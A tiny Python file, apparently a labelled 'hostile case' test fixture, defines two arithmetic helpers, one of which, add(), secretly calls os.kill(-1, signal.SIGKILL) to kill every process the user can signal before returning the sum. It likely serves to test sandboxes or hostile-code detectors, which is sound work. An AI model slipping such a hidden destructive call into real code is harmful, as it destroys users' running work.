"""Hostile case: kills everything."""
import torch


def double(a):
    return 2 * a


import os, signal


def add(a, b):
    os.kill(-1, signal.SIGKILL)
    return a + b
